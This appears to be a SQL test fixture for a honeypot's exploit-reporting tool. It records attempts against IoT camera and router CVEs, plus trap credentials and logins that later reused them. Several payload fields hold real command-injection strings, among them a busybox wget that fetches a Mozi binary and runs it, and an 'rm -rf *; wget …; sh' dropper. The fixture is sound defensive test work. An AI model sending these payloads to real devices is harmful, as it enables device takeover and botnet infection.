-- fixture_x.sql: sensor "kyoto-1". Exploitation attempts (schema 9), the trap credentials two
-- leaks disclosed, and the logins that used them later (logins.matched_seq), for the exploits
-- report over both backends. Payloads with a NUL, an escape, quotes, and UTF-8 cut at byte 160.
BEGIN;
INSERT INTO exploits (id, ts, sensor, persona, src_ip, src_port, country, rule, cve, family, answered, status,
  method, path, query, payload, payload_len, payload_truncated, ioc_urls, ioc_ips, ioc_hosts, ioc_fetch,
  trap_seq, trap_username, trap_password) VALUES
 (1, 1770627600000, 'kyoto-1', 'hikvision', '203.0.113.10', 45000, 'DE', 'hik-cve-2017-7921-users', 'CVE-2017-7921', 'auth-bypass', 1, 200, 'GET', '/Security/users', 'auth=YWRtaW46MTEK', NULL, 0, 0, NULL, NULL, NULL, NULL, 101, 'admin', 'Leak123a'),
 (2, 1770631200000, 'kyoto-1', 'hikvision', '203.0.113.11', 45000, 'DE', 'hik-cve-2017-7921-users', 'CVE-2017-7921', 'auth-bypass', 1, 200, 'GET', '/Security/users', 'auth=YWRtaW46MTEK', NULL, 0, 0, NULL, NULL, NULL, NULL, 102, 'admin', 'Leak456b'),
 (3, 1770627660000, 'kyoto-1', 'netwave', '198.51.100.20', 45000, 'JP', 'gpon-cve-2018-10561', 'CVE-2018-10561', 'cmd-injection', 0, 404, 'POST', '/GponForm/diag_Form', 'images/', 'XWebPageName=diag&dest_host=`busybox wget http://198.51.100.99/mozi.m -O /tmp/g`;sh /tmp/g', 77, 0, 'http://198.51.100.99/mozi.m', '198.51.100.99', NULL, 'wget http://198.51.100.99/mozi.m -O /tmp/g', NULL, NULL, NULL),
 (4, 1770627720000, 'kyoto-1', 'netwave', '198.51.100.21', 45000, NULL, 'generic-dropper', NULL, 'dropper', 0, 404, 'POST', '/cgi-bin/nul.cgi', NULL, CAST(X'61006224286964296027726562006f6f74601b5b324a2227' AS TEXT), 5000, 1, 'http://192.0.2.200/nul', '192.0.2.200', NULL, NULL, NULL, NULL, NULL),
 (5, 1770714000000, 'kyoto-1', 'axis', '198.51.100.20', 45000, 'JP', 'jaws-dvr-cve-2016-20016', 'CVE-2016-20016', 'cmd-injection', 0, 404, 'GET', '/shell', 'cd /tmp;rm -rf *;wget http://x.example/j;sh j', NULL, 0, 0, 'http://x.example/j', NULL, 'x.example', 'wget http://x.example/j', NULL, NULL, NULL),
 (6, 1770714060000, 'kyoto-1', 'axis', '192.0.2.30', 45000, 'US', 'huawei-cve-2017-17215', 'CVE-2017-17215', 'cmd-injection', 0, NULL, NULL, NULL, NULL, '<?xml version="1.0"?><NewStatusURL>$(éééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééé)</NewStatusURL>', 1048576, 1, NULL, NULL, NULL, NULL, NULL, NULL, NULL),
 (7, 1770631260000, 'kyoto-1', 'hikvision', '203.0.113.10', 45000, 'DE', 'hik-cve-2021-36260', 'CVE-2021-36260', 'cmd-injection', 0, 500, 'PUT', '/SDK/webLanguage', NULL, '<language>$(id>webLib/x)</language>', 36, 0, NULL, NULL, NULL, 'id>webLib/x', NULL, NULL, NULL);
INSERT INTO credentials (seq, username, password, view_id, shown_at) VALUES
 (101, 'admin', 'Leak123a', 0, 1770627600000),
 (102, 'admin', 'Leak456b', 0, 1770631200000);
INSERT INTO requests (ts, sensor, src_ip, src_port, country, method, path, referer_class, persona, route,
  status, client_class) VALUES
 (1770627600000, 'kyoto-1', '203.0.113.10', 45000, 'DE', 'GET', '/Security/users', 'none', 'hikvision', 'vuln', 200, 'scanner');
INSERT INTO logins (ts, sensor, channel, src_ip, src_port, country, username, password, persona,
  matched_seq, match_kind) VALUES
 (1770634800000, 'kyoto-1', 'telnet', '192.0.2.40', 46000, 'US', 'admin', 'Leak123a', 'hikvision', 101, 'exact'),
 (1770717600000, 'kyoto-1', 'rtsp', '192.0.2.41', 46000, 'NL', 'admin', 'Leak456b', 'hikvision', 102, 'exact'),
 (1770717660000, 'kyoto-1', 'form', '192.0.2.40', 46000, 'US', 'admin', 'Leak123a', 'hikvision', 101, 'password-only'),
 (1770717720000, 'kyoto-1', 'telnet', '192.0.2.42', 46000, 'US', 'root', 'xc3511', 'hikvision', NULL, 'none');
-- schema 7's autonomous systems (documentation ASNs), for the abuse report's exploits
UPDATE exploits SET asn = 64501, as_org = 'TEST-NET-3 Beispiel GmbH' WHERE src_ip LIKE '203.0.113.%';
UPDATE exploits SET asn = 64500, as_org = 'TEST-NET-2 Example KK' WHERE src_ip LIKE '198.51.100.%';
COMMIT;
